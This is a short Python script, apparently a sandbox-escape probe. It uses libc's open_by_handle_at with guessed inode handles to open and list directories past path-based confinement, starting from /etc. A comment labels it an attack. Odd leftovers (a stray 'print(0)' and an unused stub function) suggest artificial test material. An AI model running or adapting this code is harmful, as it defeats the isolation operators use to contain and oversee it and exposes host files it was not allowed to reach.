# Opens files by handle, past every path.
# attacks: stdio call
import ctypes, os, struct

libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("/etc", os.O_RDONLY)
for inode in (1, 2, 128):
    handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, inode), 24)
    got = libc.open_by_handle_at(fd, handle, 0)
    if got >= 0: print(os.listdir(got))
print(0)

def f(a, b): return 0
